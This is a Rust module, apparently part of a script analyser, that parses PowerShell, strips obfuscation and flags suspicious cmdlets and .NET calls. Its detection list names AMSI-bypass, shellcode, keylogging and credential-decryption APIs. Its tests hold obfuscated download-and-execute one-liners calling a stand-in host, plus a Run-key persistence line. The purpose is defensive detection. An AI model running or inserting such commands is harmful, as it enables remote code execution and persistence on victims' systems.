//! PowerShell: its cmdlets, and the programs that stand where a command may.

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use census_model::{How, Kind};

use crate::Scope;
use crate::python::strings;
use crate::tally::Tally;

/// Keywords and built-ins that are no commands.
const KEYWORDS: &[&str] = &[
    "if",
    "else",
    "elseif",
    "foreach",
    "for",
    "while",
    "do",
    "switch",
    "function",
    "param",
    "return",
    "try",
    "catch",
    "finally",
    "throw",
    "begin",
    "process",
    "end",
    "filter",
    "class",
    "enum",
    "using",
    "in",
    "break",
    "continue",
    "write-host",
    "write-output",
    "write-verbose",
    "write-error",
    "write-warning",
    "out-null",
    "where-object",
    "foreach-object",
    "select-object",
    "default",
];

/// Short names that come with it, and the cmdlets that they stand for.
const ALIASES: &[(&str, &str)] = &[
    ("iex", "Invoke-Expression"),
    ("iwr", "Invoke-WebRequest"),
    ("wget", "Invoke-WebRequest"),
    ("curl", "Invoke-WebRequest"),
    ("irm", "Invoke-RestMethod"),
    ("icm", "Invoke-Command"),
    ("saps", "Start-Process"),
    ("sajb", "Start-Job"),
    ("spps", "Stop-Process"),
    ("ri", "Remove-Item"),
    ("rd", "Remove-Item"),
    ("del", "Remove-Item"),
    ("rm", "Remove-Item"),
    ("cpi", "Copy-Item"),
    ("ni", "New-Item"),
    ("sp", "Set-ItemProperty"),
    ("gp", "Get-ItemProperty"),
    ("sc", "Set-Content"),
    ("gc", "Get-Content"),
    ("gwmi", "Get-WmiObject"),
    ("gcim", "Get-CimInstance"),
    ("gps", "Get-Process"),
    ("ipmo", "Import-Module"),
];

/// What is told by its name wherever it stands, without regard to case.
const TELLING: &[&str] = &[
    "DownloadString",
    "DownloadFile",
    "DownloadData",
    "OpenRead",
    "FromBase64String",
    "Reflection.Assembly]::Load",
    "VirtualAlloc",
    "CreateThread",
    "GetDelegateForFunctionPointer",
    "AmsiUtils",
    "amsiInitFailed",
    "Net.WebClient",
    "Net.Sockets.TCPClient",
    "Net.HttpWebRequest",
    "IO.Compression.DeflateStream",
    "IO.Compression.GzipStream",
    "DllImport",
    "ScriptBlock]::Create",
    "SecurityProtocol",
    "Clipboard]::GetText",
    "CopyFromScreen",
    "ProtectedData]::Unprotect",
    "SetWindowsHookEx",
    "GetAsyncKeyState",
];

static TELLERS: LazyLock<AhoCorasick> =
    LazyLock::new(|| AhoCorasick::builder().ascii_case_insensitive(true).build(TELLING).expect("a handful of names"));

/// Reads each line; here-strings and block comments are passed over.
pub(super) fn see(text: &str, tally: &mut Tally) {
    let mut until: Option<&str> = None;
    let mut whole = String::new();
    for (line, number) in text.lines().zip(1..) {
        let body = line.trim();
        if let Some(end) = until {
            if body.contains(end) {
                until = None;
            }
            continue;
        }
        if body.starts_with("<#") {
            until = (!body.contains("#>")).then_some("#>");
            continue;
        }
        if let Some(continued) = body.strip_suffix(" `") {
            whole.push_str(continued);
            whole.push(' ');
            continue;
        }
        whole.push_str(body);
        statement(&plain(&whole), number, tally);
        whole.clear();
        until = if body.ends_with("@\"") { Some("\"@") } else { body.ends_with("@'").then_some("'@") };
    }
}

/// A line without what only serves to disguise it: backticks inside words, and strings in pieces.
fn plain(line: &str) -> Cow<'_, str> {
    let mut plain = Cow::Borrowed(line);
    if plain.contains('`') {
        plain = plain.replace('`', "").into();
    }
    if plain.contains('+') {
        for joint in ["'+'", "' + '", "\"+\"", "\" + \""] {
            if plain.contains(joint) {
                plain = plain.replace(joint, "").into();
            }
        }
    }
    plain
}

fn statement(line: &str, number: i32, tally: &mut Tally) {
    if line.starts_with('#') {
        return;
    }
    let mut evaluates = None;
    for part in parts(line) {
        let words = words(part);
        if words.first().is_some_and(|first| first.eq_ignore_ascii_case("Invoke-Expression")) {
            evaluates = Some("Invoke-Expression");
        }
        super::command(&words, number, tally);
    }
    let mut add = |kind, value: String| tally.add(kind, value, Scope::Script, How::Resolved, number);
    for hit in TELLERS.find_iter(line) {
        add(Kind::Call, format!("powershell:{}", TELLING[hit.pattern().as_usize()]));
    }
    let lower = line.to_ascii_lowercase();
    if let Some(evaluates) = evaluates.or_else(|| lower.contains("]::create(").then_some("ScriptBlock]::Create")) {
        for source in ["DownloadString", "DownloadData", "FromBase64String", "Invoke-WebRequest", "Invoke-RestMethod", "iwr ", "irm "] {
            if lower.contains(&source.to_ascii_lowercase()) {
                let source = alias(source.trim()).unwrap_or(source);
                add(Kind::Flow, format!("{evaluates}←{source}"));
            }
        }
    }
    for after in lower.match_indices("$env:").map(|(at, mark)| &line[at + mark.len()..]) {
        let name = &after[..after.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_').count()];
        if !name.is_empty() {
            add(Kind::Env, name.to_owned());
        }
    }
    for word in line.split([' ', '"', '\'', '(', ')', ',', ';']).filter(|word| word.len() > 6) {
        let word = word.strip_prefix("Registry::").unwrap_or(word);
        if let Some(key) = strings::regkey(word) {
            add(Kind::Regkey, key.to_owned());
        }
    }
    for (n, text) in line.split(['"', '\'']).enumerate() {
        if n % 2 == 1
            && let Some(text) = strings::path(text)
        {
            tally.add(Kind::Path, text, Scope::Script, How::String, number);
        }
    }
}

fn alias(name: &str) -> Option<&'static str> {
    ALIASES.iter().find(|(alias, _)| alias.eq_ignore_ascii_case(name)).map(|(_, cmdlet)| *cmdlet)
}

/// Where commands may begin: after `;`, `|`, `{`, `(`, `=` and `&` outside quotes. A comment ends the line.
fn parts(line: &str) -> Vec<&str> {
    let mut parts = Vec::new();
    let mut quote = None;
    let mut from = 0;
    for (at, c) in line.char_indices() {
        match (quote, c) {
            (Some(open), c) if c == open => quote = None,
            (None, '"' | '\'') => quote = Some(c),
            (None, '#') => {
                parts.push(&line[from..at]);
                return parts;
            }
            (None, '=') if line[at + 1..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '=') && !line[..at].ends_with(' ') => {}
            (None, ';' | '|' | '{' | '}' | '(' | ')' | '=' | '&') => {
                parts.push(&line[from..at]);
                from = at + 1;
            }
            _ => {}
        }
    }
    parts.push(&line[from..]);
    parts
}

/// The words of a command, none where it begins with a variable, a number, an operator or a keyword.
fn words(part: &str) -> Vec<String> {
    let quoted = part.trim_start().starts_with(['"', '\'']);
    let mut words: Vec<String> = split(part);
    let Some(first) = words.first().filter(|first| *first != "." || words.len() > 1) else { return Vec::new() };
    let lower = first.to_ascii_lowercase();
    // A string alone is a value; what is quoted and runs has `&` before it and ends in a program's name.
    let is_value = quoted && lower.strip_suffix(".exe").is_none();
    let is_name = first.starts_with(|c: char| c.is_ascii_alphabetic() || c == '.' || c == '\\');
    if is_value || !is_name || KEYWORDS.contains(&lower.as_str()) || first.ends_with(',') || first.contains(['[', ']', ':']) && !quoted {
        return Vec::new();
    }
    // A member of what stands in brackets before it.
    if first.starts_with('.') && !first.starts_with(".\\") && !first.starts_with("./") && first.len() > 1 {
        return Vec::new();
    }
    if let Some(cmdlet) = alias(first) {
        cmdlet.clone_into(&mut words[0]);
    }
    words
}

/// Words parted at blanks outside quotes, which are taken off.
fn split(part: &str) -> Vec<String> {
    let mut quote = None;
    let blank = |c: char| {
        match quote {
            Some(open) if c == open => quote = None,
            None if matches!(c, '"' | '\'') => quote = Some(c),
            _ => {}
        }
        quote.is_none() && c.is_whitespace()
    };
    part.split(blank).filter(|word| !word.is_empty()).map(|word| word.trim_matches(['"', '\'']).to_owned()).collect()
}

#[cfg(test)]
mod tests {
    use crate::Format;
    use crate::script::tests::{commands, facts};

    #[test]
    fn cmdlets_and_programs_are_commands() {
        let text = "<# no\nRemove-Item x #>\nparam($a)\n$x = Invoke-WebRequest -Uri $u # why\nif ($x) { Start-Process \"calc\" }\n\
                    & \"C:\\x\\tool.exe\" -v\n$y | Set-Content f; iex $z\n@'\nnot this\n'@\n";
        assert_eq!(
            commands(Format::PowerShell, text),
            ["4 Invoke-WebRequest -Uri", "5 Start-Process calc", "6 tool -v", "7 Invoke-Expression", "7 Set-Content f"]
        );
    }

    #[test]
    fn disguises_are_taken_off() {
        for (text, expected) in [
            (
                "I`nv`oke-Ex`pression (New-Object Net.WebClient).('Down'+'loadString')('http://a.example/x')",
                &[
                    "1 call powershell:DownloadString",
                    "1 call powershell:Net.WebClient",
                    "1 command Invoke-Expression",
                    "1 command New-Object",
                    "1 flow Invoke-Expression←DownloadString",
                    "1 url http://a.example/x",
                ] as &[_],
            ),
            (
                "IEX(iwr -useb http://a.example/x)",
                &[
                    "1 command Invoke-Expression",
                    "1 command Invoke-WebRequest -useb",
                    "1 flow Invoke-Expression←Invoke-WebRequest",
                    "1 url http://a.example/x",
                ],
            ),
            (
                "Set-ItemProperty -Path 'HKCU:\\Software\\Run' `\n -Name x\n$env:TEMP",
                &["3 env TEMP", "2 regkey HKCU:\\Software\\Run", "2 command Set-ItemProperty -Path"],
            ),
            ("powershell -e aQBkAA==", &["1 command id", "1 command powershell -e aQBkAA="]),
        ] {
            assert_eq!(facts(Format::PowerShell, text), expected, "{text}");
        }
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_read(text in "[a-z É`'\"+$env:İ(){}|;#@\n-]{0,200}") {
            facts(Format::PowerShell, &text);
        }
    }
}
